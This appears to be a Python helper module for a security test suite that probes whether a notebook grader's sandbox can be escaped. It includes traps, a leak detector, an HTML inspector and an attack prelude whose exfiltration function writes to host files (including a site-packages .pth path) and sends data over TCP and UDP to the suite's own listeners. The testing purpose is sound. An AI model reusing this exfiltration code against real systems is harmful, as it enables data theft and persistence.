"""Machinery for the attack suite: marker paths, a network trap, process and container census,
leak needles, report inertness, tightened limits, and the attack notebook prelude.

Nothing here decides whether the grader passed a notebook: it only observes what an attack
could have done outside the sandbox and what reached the learner-facing outputs.
"""
from __future__ import annotations

import dataclasses
import hashlib
import html
import html.parser
import json
import os
import re
import secrets
import shutil
import site
import socket
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterable

import yaml

from grader import gradebook
from grader.checks import clean_text, list_checks
from grader.grading import GradeResult
from grader.problems import Problem, get_problem
from grader.report import format_result
from grader.sandbox.docker import OWNER_LABEL

REPO = Path(__file__).resolve().parents[2]
PROBLEMS = REPO / "problems"
PROBLEM_ID = "mle-act-softmax"
MARGIN_S = 10.0  # grading may overrun the problem's total limit by this much (start-up, clean-up, a busy machine)

# Tightened limits so the suite is fast; each attack may override some of them.
TIGHT = dict(cell_s=3, total_s=25, check_s=2, memory_mb=512, pids=64, output_kb=256, disk_mb=64, file_mb=16)


class AttackSucceeded(AssertionError):
    """An invariant the grader promises was broken by the attack (a real finding, not a test bug)."""


# ------------------------------------------------------------------ problems

def tight_problem(overrides: dict[str, Any] | None = None) -> Problem:
    """The real bank problem with tightened limits (and per-attack overrides)."""
    problem = get_problem(PROBLEM_ID)
    return dataclasses.replace(problem, limits=dataclasses.replace(problem.limits, **{**TIGHT, **(overrides or {})}))


def tight_bank(root: Path, overrides: dict[str, Any] | None = None) -> Path:
    """A copy of the bank problem under `root` with tightened limits in meta.yaml (for batch/CLI runs)."""
    src = get_problem(PROBLEM_ID).path
    dest = root / src.parent.name / src.name
    shutil.copytree(src, dest, ignore=shutil.ignore_patterns("__pycache__"))
    meta = yaml.safe_load((dest / "meta.yaml").read_text())
    meta["limits"] = {**(meta.get("limits") or {}), **TIGHT, **(overrides or {})}
    (dest / "meta.yaml").write_text(yaml.safe_dump(meta, sort_keys=False))
    return root


def tree_hash(root: Path) -> dict[str, str]:
    """Path -> sha256 of every file under `root` (bytecode caches excluded)."""
    out = {}
    for p in sorted(root.rglob("*")):
        if "__pycache__" in p.parts:
            continue
        if p.is_symlink():
            out[str(p.relative_to(root))] = "link:" + os.readlink(p)
        elif p.is_file():
            out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


# ------------------------------------------------------------------ network trap

class NetTrap:
    """TCP and UDP listeners on every host address; any packet that reaches them is an escape."""

    def __init__(self) -> None:
        self.events: list[tuple[float, str, str, bytes]] = []
        self._lock = threading.Lock()
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self._stop = False
        for target in (self._serve_tcp, self._serve_udp):
            threading.Thread(target=target, daemon=True).start()

    def _record(self, proto: str, addr: Any, data: bytes) -> None:
        with self._lock:
            self.events.append((time.time(), proto, str(addr), data[:300]))

    def _serve_tcp(self) -> None:
        while not self._stop:
            try:
                conn, addr = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(0.5)
            try:
                data = conn.recv(300)
            except OSError:
                data = b""
            self._record("tcp", addr, data)
            conn.close()

    def _serve_udp(self) -> None:
        while not self._stop:
            try:
                data, addr = self.udp.recvfrom(2048)
            except OSError:
                return
            self._record("udp", addr, data)

    def since(self, t0: float) -> list[tuple[float, str, str, bytes]]:
        with self._lock:
            return [e for e in self.events if e[0] >= t0]

    def close(self) -> None:
        self._stop = True
        for s in (self.tcp, self.udp):
            try:
                s.close()
            except OSError:
                pass


class HostTrap:
    """Host things the grader must never be led to: a Unix socket (a sandbox that swaps its own socket for a
    link to it would make the grader connect here) and a FIFO (a time zone or path named by the kernel would
    make the grader open it, and block). Any connection or open is recorded."""

    def __init__(self, root: Path) -> None:
        root.mkdir(parents=True, exist_ok=True)
        os.chmod(root, 0o755)
        self.events: list[tuple[float, str]] = []
        self.sock_path = root / "host.sock"
        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(self.sock_path))
        os.chmod(self.sock_path, 0o777)
        self.listener.listen(8)
        self.fifo = root / "tz-fifo"
        os.mkfifo(self.fifo, 0o666)
        self._stop = threading.Event()
        for target in (self._accept, self._watch_fifo):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.events.append((time.time(), "connect"))
            conn.close()

    def _watch_fifo(self) -> None:
        while not self._stop.wait(0.05):
            try:  # a writer can open without blocking only when someone holds the FIFO open for reading
                fd = os.open(self.fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            self.events.append((time.time(), "fifo opened"))
            os.close(fd)  # the reader sees end-of-file and goes on

    def since(self, t0: float) -> list[tuple[float, str]]:
        return [e for e in self.events if e[0] >= t0]

    def close(self) -> None:
        self._stop.set()
        self.listener.close()


def host_addresses() -> list[str]:
    """Addresses of this host an attack might aim at from inside a sandbox."""
    found = ["127.0.0.1", "172.17.0.1"]  # loopback and Docker's default bridge gateway
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))  # no packet is sent; this only picks the outgoing address
        found.append(probe.getsockname()[0])
    except OSError:
        pass
    finally:
        probe.close()
    try:
        found.append(socket.gethostbyname(socket.gethostname()))
    except OSError:
        pass
    return list(dict.fromkeys(a for a in found if a and not a.startswith("0.")))


# ------------------------------------------------------------------ processes and containers

def parent_pid(pid: int) -> int:
    """The parent of `pid` (0 when it is gone)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
        return int(stat.rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def descendants(root: int | None = None) -> set[int]:
    """PIDs of every live process descended from `root` (default: this test process)."""
    me = os.getpid() if root is None else root
    parents: dict[int, int] = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            parents[int(name)] = parent_pid(int(name))
    found = set()
    for pid in parents:
        p, hops = parents[pid], 0
        while p > 1 and hops < 64:
            if p == me:
                found.add(pid)
                break
            p, hops = parents.get(p, 0), hops + 1
    return found


def _helper_process(pid: int) -> bool:
    """multiprocessing's resource tracker and the fork sandbox's template live as long as this test
    process (neither is a sandbox: the template never runs learner code)."""
    from grader.sandbox.fork import template_pids

    if pid in template_pids():
        return True
    try:
        return b"multiprocessing.resource_tracker" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return True


def token_tasks(token: str) -> list[str]:
    """Threads and processes anywhere on the host that carry the attack's token (as name or argument)."""
    hits = []
    name = token[:15]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                hits.append(f"{pid}:cmdline")
                continue
            for tid in os.listdir(f"/proc/{pid}/task"):
                try:
                    if Path(f"/proc/{pid}/task/{tid}/comm").read_text().strip() == name:
                        hits.append(f"{pid}/{tid}")
                except OSError:
                    pass
        except OSError:
            continue
    return hits


def _docker_client() -> Any:
    import docker

    return docker.from_env()


def containers_of(owners: Iterable[int]) -> set[str]:
    """Containers (running or not) labelled as started by one of the given grader PIDs."""
    owners = {str(o) for o in owners}
    if not owners:
        return set()
    try:
        found = _docker_client().containers.list(all=True, sparse=True, filters={"label": OWNER_LABEL})
    except Exception:  # noqa: BLE001 - no docker here: nothing can be left behind
        return set()
    from grader.sandbox.fork import template_containers

    shared = template_containers()  # docker-fork's templates: they live with the grader process, never a submission's
    return {c.id for c in found if (c.attrs.get("Labels") or {}).get(OWNER_LABEL) in owners and c.id not in shared}


class Sampler:
    """Samples, every `period` seconds while active: token tasks, descendant PIDs, and our RSS."""

    def __init__(self, token: str, tasks: bool = False, pids: bool = False, period: float = 0.1):
        self.token = token
        self.tasks = tasks
        self.track_pids = pids
        self.period = period
        self.max_tasks = 0
        self.max_rss_mb = 0.0
        self.pids: set[int] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    @staticmethod
    def rss_mb() -> float:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return 0.0

    def _run(self) -> None:
        while not self._stop.is_set():
            self.max_rss_mb = max(self.max_rss_mb, self.rss_mb())
            if self.track_pids:
                self.pids |= descendants()
            if self.tasks:
                self.max_tasks = max(self.max_tasks, len([t for t in token_tasks(self.token) if "cmdline" not in t]))
            self._stop.wait(self.period)

    def __enter__(self) -> "Sampler":
        self.start_rss_mb = self.rss_mb()
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)


# ------------------------------------------------------------------ the arena: what an escape would touch

@dataclass
class Arena:
    """Per-test markers, secrets and observers."""

    tmp: Path
    trap: NetTrap
    token: str = field(default_factory=lambda: "atk" + secrets.token_hex(5))
    docker: bool = False  # whether containers must be counted (only the docker backend makes them)
    host: HostTrap | None = None

    def __post_init__(self) -> None:
        self.markers_dir = self.tmp / "markers"
        self.markers_dir.mkdir(mode=0o777)
        os.chmod(self.markers_dir, 0o777)
        self.secret_file = self.markers_dir / "host-secret.txt"
        self.host_secret = f"HOSTSECRET-{self.token}"
        self.secret_file.write_text(self.host_secret)
        self.env_secret = f"ENVSECRET-{self.token}"
        self.neighbour_secret = f"NEIGHBOUR-{self.token}"
        home = Path.home()
        venv_site = Path(site.getsitepackages()[0]) if hasattr(site, "getsitepackages") else Path(sys.prefix)
        self.markers = [
            self.markers_dir / f"{self.token}.txt",
            Path("/tmp") / f"{self.token}.txt",
            home / f".{self.token}.rc",
            PROBLEMS / f"{self.token}.txt",
            venv_site / f"{self.token}.pth",
            REPO / "tests" / "attacks" / f"{self.token}.py",
        ]
        self.hosts = host_addresses()
        self.t0 = time.time()
        self.before_pids = descendants()
        self.owners = {os.getpid()}
        self.before_containers: set[str] = set()

    def use_backend(self, backend: str) -> None:
        self.docker = backend.startswith("docker")
        self.reset_baseline()

    def reset_baseline(self) -> None:
        """Take the process/container baseline again (after a neighbour sandbox was opened)."""
        self.before_pids = descendants()
        self.before_containers = containers_of(self.owners) if self.docker else set()

    def placeholders(self) -> dict[str, str]:
        home = str(Path.home())
        return {"@TOKEN@": self.token, "@MARKERS@": repr([str(m) for m in self.markers]),
                "@HOSTS@": repr(self.hosts), "@PORT@": str(self.trap.port), "@SECRET_FILE@": str(self.secret_file),
                "@REPO@": str(REPO), "@HOME@": home, "@DB@": os.environ.get("GRADER_DB", ""),
                "@VENV_SITE@": str(self.markers[4].parent),
                "@HOST_SOCK@": str(self.host.sock_path) if self.host else "", "@FIFO@": str(self.host.fifo) if self.host else ""}

    def secrets(self) -> list[str]:
        return [self.host_secret, self.env_secret, self.neighbour_secret]

    # -------------------------------------------------------------- invariants

    def check_markers(self) -> None:
        escaped = [str(m) for m in self.markers if m.exists() or m.is_symlink()]
        extra = sorted(p.name for p in self.markers_dir.iterdir() if p != self.secret_file)
        for m in self.markers:  # leave the machine clean even when the check fails
            if m.exists() or m.is_symlink():
                m.unlink()
        if escaped or extra:
            raise AttackSucceeded(f"files outside the sandbox were created: {escaped + extra}")
        if self.secret_file.read_text() != self.host_secret:
            raise AttackSucceeded("a host file outside the sandbox was changed")

    def check_network(self) -> None:
        events = self.trap.since(self.t0)
        if events:
            raise AttackSucceeded(f"the sandbox reached the host network: {events[:3]}")
        led = self.host.since(self.t0) if self.host else []
        if led:
            raise AttackSucceeded(f"the grader was led to a host socket or file: {led[:3]}")

    def leftovers(self) -> dict[str, Any]:
        left: dict[str, Any] = {}
        procs = {p for p in descendants() - self.before_pids if not _helper_process(p)}
        if procs:
            left["processes"] = {p: Path(f"/proc/{p}/cmdline").read_bytes()[:80] if Path(f"/proc/{p}").exists() else b""
                                 for p in procs}
        tasks = token_tasks(self.token)
        if tasks:
            left["token tasks"] = tasks
        cont = (containers_of(self.owners) - self.before_containers) if self.docker else set()
        if cont:
            left["containers"] = sorted(cont)
        files = [str(p) for p in Path("/tmp").glob(f"grader-*/ipc/*{self.token}*")]
        if files:
            left["session files"] = files[:5]
        return left

    def check_leftovers(self, wait_s: float = 10.0) -> None:
        deadline = time.monotonic() + wait_s
        left = self.leftovers()
        while left and time.monotonic() < deadline:
            time.sleep(0.2)
            left = self.leftovers()
        if left:
            raise AttackSucceeded(f"something outlived its grading: {left}")


# ------------------------------------------------------------------ leaks

def _norm(text: str) -> str:
    return clean_text(html.unescape(text), cap=10**9)


def leak_needles(public: Iterable[str]) -> list[str]:
    """Lines of the hidden checks and the reference solution that no learner-facing text may contain."""
    problem = get_problem(PROBLEM_ID)
    starter = json.loads(problem.starter_path.read_text())
    public_text = _norm("\n".join([problem.statement(), *("".join(c.get("source", "")) for c in starter["cells"]),
                                   *(f"{n} {d}" for n, d in list_checks(problem)), *public]))
    needles = []
    for path in (problem.tests_path, problem.solution_path):
        for line in path.read_text().splitlines():
            line = _norm(line.strip().strip('"').strip("'"))
            if len(line) >= 14 and line not in public_text:
                needles.append(line)
    return needles


def find_leaks(texts: dict[str, str], needles: Iterable[str]) -> list[tuple[str, str]]:
    hits = []
    for name, text in texts.items():
        flat = _norm(text)
        hits += [(name, n) for n in needles if n in flat]
    return hits


# ------------------------------------------------------------------ outputs

def row_of(result: GradeResult, student: str = "mallory") -> dict[str, Any]:
    """A result as a batch store row (what gradebook.write_all consumes)."""
    return {"student": student, "problem": result.problem, "notebook": result.notebook, "status": result.status,
            "checks_passed": result.checks_passed, "checks_total": result.checks_total,
            "checks": [c.to_json() for c in result.checks], "error": result.error, "duration_s": result.duration_s,
            "sandbox": result.sandbox, "isolated": result.isolated}


def outputs_of(results: list[GradeResult], out: Path) -> dict[str, str]:
    """Every learner- or instructor-facing text the project writes for these results."""
    texts: dict[str, str] = {}
    for i, r in enumerate(results):
        texts[f"json[{i}]"] = json.dumps(r.to_json())
        texts[f"terminal[{i}]"] = format_result(r, r.sandbox)
    rows = [row_of(r, student=f"mallory{i}") for i, r in enumerate(results)]
    gradebook.write_all(rows, out, threshold=17, size=20)
    texts.update(read_tree(out))
    return texts


def read_tree(out: Path) -> dict[str, str]:
    return {str(p.relative_to(out)): p.read_text(encoding="utf-8", errors="replace")
            for p in sorted(out.rglob("*")) if p.is_file() and p.suffix in (".html", ".csv", ".json", ".txt")}


_ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "table", "thead",
                 "tbody", "tr", "th", "td", "code", "span", "script", "section", "strong", "em", "b", "small", "mark",
                 "pre", "ul", "li", "div", "a", "svg", "rect", "text", "line", "polyline", "circle"}
_SCHEME = re.compile(r"^\s*[a-z][a-z0-9+.-]*:|^\s*//")  # a link out of the report folder (or javascript:)
_SORT_JS = gradebook._SORT_JS


class _Inspector(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False
        self._buf: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED_TAGS:
            self.problems.append(f"unexpected element <{tag}>")
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name} on <{tag}>")
            if tag == "a" and name == "href" and not _SCHEME.match(v):
                continue  # a relative link to another page of the outputs (report -> feedback) is inert
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc") or "javascript:" in v:
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
        if tag == "script":
            if any(n == "src" for n, _ in attrs):
                self.problems.append("external script")
            self._in_script, self._buf = True, []

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._in_script:
            self._in_script = False
            self.scripts.append("".join(self._buf))

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self._buf.append(data)


def html_problems(page: str) -> list[str]:
    """Why this page is not inert: active elements or attributes beyond the project's own sort script."""
    ins = _Inspector()
    ins.feed(page)
    ins.close()
    problems = list(ins.problems)
    if any(s != _SORT_JS for s in ins.scripts) or len(ins.scripts) > 1:
        problems.append(f"{len(ins.scripts)} scripts, not only the sort script")
    if "Content-Security-Policy" not in page:
        problems.append("no Content-Security-Policy")
    return problems


def check_outputs(texts: dict[str, str], needles: list[str], secrets_: list[str]) -> None:
    leaks = find_leaks(texts, needles)
    if leaks:
        raise AttackSucceeded(f"hidden test or reference source reached an output: {leaks[:3]}")
    for name, text in texts.items():
        for s in secrets_:
            if s in text:
                raise AttackSucceeded(f"a host secret reached {name}: {s}")
    for name, text in texts.items():
        if name.endswith(".html"):
            bad = html_problems(text)
            if bad:
                raise AttackSucceeded(f"{name} is not inert: {bad[:3]}")


# ------------------------------------------------------------------ attack reports

_ATK = re.compile(r"ATK (\{)")


def report_of(result: GradeResult) -> dict[str, Any] | None:
    """The JSON report an attack sent back through its own feedback (exception text), if any."""
    texts = [c.message for c in result.checks] + [str((result.error or {}).get("evalue", ""))]
    for text in texts:
        m = _ATK.search(text)
        if m:
            try:
                value, _ = json.JSONDecoder().raw_decode(text[m.start(1):])
            except ValueError:
                continue
            if isinstance(value, dict):
                return value
    return None


# The first cell of every attack notebook: where to aim, and how to exfiltrate.
PRELUDE = r'''
import json, os, socket, sys, time
ATK_TOKEN = "@TOKEN@"
ATK_MARKERS = @MARKERS@
ATK_HOSTS = @HOSTS@
ATK_PORT = @PORT@
ATK_SECRET_FILE = "@SECRET_FILE@"
ATK_REPO = "@REPO@"
ATK_HOME = "@HOME@"
ATK_DB = "@DB@"
ATK_VENV_SITE = "@VENV_SITE@"
ATK_HOST_SOCK = "@HOST_SOCK@"
ATK_FIFO = "@FIFO@"


def atk_name():
    """Name this thread/process after the token, so the host can find it if it outlives grading."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, ATK_TOKEN.encode(), 0, 0, 0)
    except Exception:
        pass


def atk_exfil(data):
    """Try every way out: host files and host network."""
    data = str(data)
    for path in ATK_MARKERS:
        try:
            with open(path, "a") as f:
                f.write(data[:2000])
        except Exception:
            pass
    for host in ATK_HOSTS:
        try:
            s = socket.create_connection((host, ATK_PORT), timeout=0.3)
            s.sendall(data.encode()[:2000])
            s.close()
        except Exception:
            pass
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(data.encode()[:1000], (host, ATK_PORT))
            u.close()
        except Exception:
            pass
    return data


def atk_report(**kw):
    """A short JSON report, exfiltrated and returned for an exception message (the feedback channel)."""
    text = "ATK " + json.dumps(kw, separators=(",", ":"), default=str)
    atk_exfil(text)
    return text
'''


def render_cells(cells: Iterable[Any], placeholders: dict[str, str]) -> list[Any]:
    def sub(text: str) -> str:
        for k, v in placeholders.items():
            text = text.replace(k, v)
        return text

    out = []
    for c in cells:
        if isinstance(c, str):
            out.append(sub(c))
        else:
            c = dict(c)
            if isinstance(c.get("source"), str):
                c["source"] = sub(c["source"])
            out.append(c)
    return out


def notebook_bytes(cells: list[Any], metadata: dict[str, Any] | None = None, problem: str | None = PROBLEM_ID) -> bytes:
    """nbformat-4 JSON: str items become code cells, dict items are taken as whole cells."""
    nb_cells = []
    for c in cells:
        if isinstance(c, str):
            nb_cells.append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": c})
        else:
            nb_cells.append(c)
    meta: dict[str, Any] = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                            "language_info": {"name": "python"}}
    if problem:
        meta["grader"] = {"problem": problem}
    meta.update(metadata or {})
    return json.dumps({"cells": nb_cells, "metadata": meta, "nbformat": 4, "nbformat_minor": 5}).encode()


@dataclass
class Run:
    """What one attack run produced, for the attack's own evidence check."""

    backend: str
    arena: Arena
    problem: Problem | None = None
    results: list[GradeResult] = field(default_factory=list)
    elapsed: list[float] = field(default_factory=list)
    outputs: dict[str, str] = field(default_factory=dict)
    crash: BaseException | None = None
    findings: list[str] = field(default_factory=list)  # invariants a flow saw broken (raised after the common checks)
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def result(self) -> GradeResult:
        return self.results[-1]

    @property
    def reports(self) -> list[dict[str, Any] | None]:
        return [report_of(r) for r in self.results]

    def report(self, index: int = -1) -> dict[str, Any]:
        rep = report_of(self.results[index])
        assert rep is not None, (f"the attack's report did not come back (status {self.results[index].status}, "
                                 f"error {self.results[index].error}, checks {[c.message for c in self.results[index].checks][:2]})")
        return rep
